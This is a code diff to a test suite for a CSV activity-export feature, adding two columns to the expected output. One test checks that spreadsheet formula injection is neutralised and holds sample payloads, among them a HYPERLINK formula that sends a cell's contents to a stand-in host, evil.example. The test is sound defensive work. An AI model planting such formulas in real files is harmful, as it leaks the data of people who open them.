@@ -64,9 +64,9 @@ describe('operations activity exports', () => {
     expect(res.headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(bytes).digest('base64')}:`);
 
     const lines = bytes.toString('utf8').trimEnd().split('\r\n');
-    expect(lines[0]).toBe('occurred_at,event_id,event_type,resource_ref,scope_ref,family,status,principal_currency,principal_value,fee_currency,fee_total,subject_kind,subject_id');
+    expect(lines[0]).toBe('occurred_at,event_id,event_type,resource_ref,scope_ref,family,status,principal_currency,principal_value,fee_currency,fee_total,subject_kind,subject_id,reference,metadata');
     expect(lines).toHaveLength(301);
-    expect(lines[1]).toMatch(/^2026-05-01T00:00:00\.000Z,[0-9a-f-]{36},operations\.internal_transfer\.executed\.v1,internal-transfers\/[0-9a-f-]{36},enterprises\/[0-9a-f-]{36},internal_transfer,executed,USDC,100\.25,USDC,1\.50,user,[0-9a-f-]{36}$/);
+    expect(lines[1]).toMatch(/^2026-05-01T00:00:00\.000Z,[0-9a-f-]{36},operations\.internal_transfer\.executed\.v1,internal-transfers\/[0-9a-f-]{36},enterprises\/[0-9a-f-]{36},internal_transfer,executed,USDC,100\.25,USDC,1\.50,user,[0-9a-f-]{36},,$/);
     expect(lines[97]).toContain(',"internal_transfer, ""quoted""",');
 
     const events = await s.api('GET', `/events?resource_ref=operations-activity-exports/${done.id}`);
@@ -108,11 +108,11 @@ describe('operations activity exports', () => {
     expect(done).toMatchObject({ status: 'completed', row_count: 2 });
     const { bytes } = await download(s.token, done.download_path);
     const lines = bytes.toString('utf8').split('\r\n');
-    // From `family` on: family, status, principal_currency, principal_value, fee_currency, fee_total, subject_kind, subject_id.
+    // From `family` on: family, status, principal_currency, principal_value, fee_currency, fee_total, subject_kind, subject_id, reference, metadata.
     const tail = (line: string) => line.split(',').slice(5).join(',');
-    expect(tail(lines[1])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)"`);
+    expect(tail(lines[1])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)",,`);
     // A non-decimal in an amount column is text like any other.
-    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR"`);
+    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR",,`);
   });
 
   it.each([
